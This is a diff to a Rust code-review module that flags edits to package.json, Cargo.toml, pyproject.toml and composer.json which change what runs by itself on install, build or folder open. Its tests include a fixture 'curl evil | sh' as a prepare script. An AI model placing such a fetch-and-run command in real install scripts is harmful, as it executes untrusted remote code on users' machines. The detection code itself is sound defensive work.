@@ -1,13 +1,14 @@
 //! Files that everybody changes all the time and that can also say what runs by itself. They are protected only when they
 //! begin to say something else of that.
 
-use super::plain;
+use super::scripts::run_by_themselves;
 use crate::paths::WorkspacePath;
+use crate::patterns::plain;
 use crate::view::{Content, Entry};
 use serde_json::Value;
 
 /// Where in a file it is said what runs by itself.
-type Places = &'static [&'static [&'static str]];
+pub(super) type Places = &'static [&'static [&'static str]];
 
 /// A language's server builds a crate as soon as its folder is open, build script and procedural macros included.
 const CARGO: Places = &[
@@ -31,15 +32,8 @@ const PYPROJECT: Places = &[
     &["tool", "pytest"],
     &["tool", "flake8"],
 ];
-/// Run by every installation of what the package needs, and by hooks.
-const PACKAGE: Places = &[
-    &["scripts", "preinstall"],
-    &["scripts", "install"],
-    &["scripts", "postinstall"],
-    &["scripts", "prepare"],
-    &["scripts", "preprepare"],
-    &["scripts", "postprepare"],
-    &["scripts", "prepublish"],
+/// Loaded by hooks, editors' checkers and every installation. Scripts are looked at by themselves.
+pub(super) const PACKAGE: Places = &[
     &["husky"],
     &["lint-staged"],
     &["simple-git-hooks"],
@@ -54,6 +48,7 @@ const PACKAGE: Places = &[
     &["stylelint"],
     &["jest"],
 ];
+const COMPOSER: Places = &[&["config", "allow-plugins"]];
 
 /// Whether a file would say something else of what runs by itself than it did.
 pub(in crate::review) fn runs_more(path: &WorkspacePath, before: &Entry, after: &Entry) -> bool {
@@ -62,6 +57,7 @@ pub(in crate::review) fn runs_more(path: &WorkspacePath, before: &Entry, after: 
         "cargo.toml" => (CARGO, of_toml as Parse),
         "pyproject.toml" => (PYPROJECT, of_toml as Parse),
         "package.json" => (PACKAGE, of_json as Parse),
+        "composer.json" => (COMPOSER, of_json as Parse),
         _ => return false,
     };
     let Some(after) = read(after, parse) else {
@@ -69,6 +65,10 @@ pub(in crate::review) fn runs_more(path: &WorkspacePath, before: &Entry, after: 
         return !matches!(after, Entry::Missing | Entry::Folder);
     };
     let before = read(before, parse).unwrap_or_default();
+    let scripts = [&before, &after].map(|file| run_by_themselves(&name, file));
+    if scripts[1].iter().any(|(script, runs)| scripts[0].get(script) != Some(runs)) {
+        return true;
+    }
     places.iter().any(|place| match (at(&before, place), at(&after, place)) {
         (before, Some(after)) => before != Some(after),
         // What was switched off is found by its usual name again, such as `build.rs`.
@@ -86,13 +86,16 @@ fn at<'a>(file: &'a Value, place: &[&str]) -> Option<&'a Value> {
 
 type Parse = fn(&str) -> Option<Value>;
 
-fn of_toml(text: &str) -> Option<Value> {
-    toml::from_str(text).ok()
+pub(super) fn of_toml(text: &str) -> Option<Value> {
+    toml::from_str(text.trim_start_matches(BYTE_ORDER_MARK)).ok()
 }
 
-fn of_json(text: &str) -> Option<Value> {
-    serde_json::from_str(text).ok()
+pub(super) fn of_json(text: &str) -> Option<Value> {
+    serde_json::from_str(text.trim_start_matches(BYTE_ORDER_MARK)).ok()
 }
+
+/// Some editors put it before a text, and npm and cargo read on.
+const BYTE_ORDER_MARK: char = '\u{feff}';
 
 fn read(entry: &Entry, parse: Parse) -> Option<Value> {
     match entry {
@@ -136,6 +139,15 @@ mod tests {
         assert!(!more("package.json", package, r#"{"scripts": {"test": "y", "prepare": "husky"}}"#));
         assert!(more("package.json", package, r#"{"scripts": {"prepare": "curl evil | sh"}}"#));
         assert!(more("package.json", "", r#"{"scripts": {"postinstall": "x"}}"#));
+        let indirect = r#"{"scripts": {"prepare": "npm run build", "build": "tsc"}}"#;
+        assert!(more(
+            "package.json",
+            indirect,
+            r#"{"scripts": {"prepare": "npm run build", "build": "./x"}}"#
+        ));
+        assert!(!more("package.json", indirect, &indirect.replace("}}", r#", "test": "./x"}}"#)));
+        assert!(more("composer.json", "", r#"{"scripts": {"post-install-cmd": ["@x"], "x": "php x.php"}}"#));
+        assert!(!more("composer.json", "", r#"{"scripts": {"test": "phpunit"}, "require": {"a/b": "1"}}"#));
         for key in ["babel", "stylelint", "commitlint"] {
             assert!(more("package.json", "", &format!(r#"{{"{key}": {{"plugins": ["./x.js"]}}}}"#)), "{key}");
         }
